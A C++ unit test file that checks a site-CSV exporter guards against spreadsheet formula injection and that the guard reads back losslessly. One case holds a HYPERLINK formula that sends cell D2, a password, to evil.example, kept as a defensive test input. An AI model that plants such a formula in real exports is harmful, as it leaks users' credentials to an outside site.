#include "core/tools/SiteCsv.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace {

std::string Written(const std::string& strField) {
    std::string strLine;
    SiteCsv::AppendRow(strLine, SiteCsv::Row{"site", "", "", strField, ""});
    return strLine.substr(std::string("site,,,").size(), strLine.size() - std::string("site,,,,\r\n").size());
}

std::string ReadBack(const std::string& strWritten) {
    std::vector<SiteCsv::Row> rows;
    std::size_t nLine = 0;
    std::string strError;
    const std::string strCsv = std::string(SiteCsv::kHeader) + "\r\nsite,,," + strWritten + ",\r\n";
    EXPECT_TRUE(SiteCsv::Parse(strCsv, rows, nLine, strError)) << strError;
    return rows.size() == 1 ? rows[0][3] : "<no row>";
}

} // namespace

// A spreadsheet runs a field that begins with =, +, -, @ (or a tab or CR before one) as a formula, which can
// send the row's password to a web site: such a field is written after a "'", which the reader takes away
// again. A field that only looks guarded gets a "'" too, so every field reads back byte for byte.
TEST(SiteCsv, FormulaFieldsAreGuardedAndReadBackAsTheyWere) {
    const struct {
        std::string strField;
        std::string strWritten;
    } cases[] = {
        {"=HYPERLINK(\"https://evil.example/?p=\"&D2,\"Verify\")",
         "\"'=HYPERLINK(\"\"https://evil.example/?p=\"\"&D2,\"\"Verify\"\")\""},
        {"+1", "'+1"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "\"'\r=1\""},
        {"'=1", "''=1"},
        {"''-x", "'''-x"},
        {"'plain", "'plain"},
        {"a=b", "a=b"},
        {"", ""},
        {"'", "'"},
        {"plain", "plain"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.strField);
        EXPECT_EQ(Written(c.strField), c.strWritten);
        EXPECT_EQ(ReadBack(c.strWritten), c.strField);
    }
}

// Other programs' CSV with a guard of their own reads as the text the guard protected.
TEST(SiteCsv, AGuardFromAnotherProgramIsTakenAwayOnce) {
    EXPECT_EQ(ReadBack("'=1"), "=1");
    EXPECT_EQ(ReadBack("'-1"), "-1");
    EXPECT_EQ(ReadBack("''=1"), "'=1");
    EXPECT_EQ(ReadBack("'x"), "'x");
}
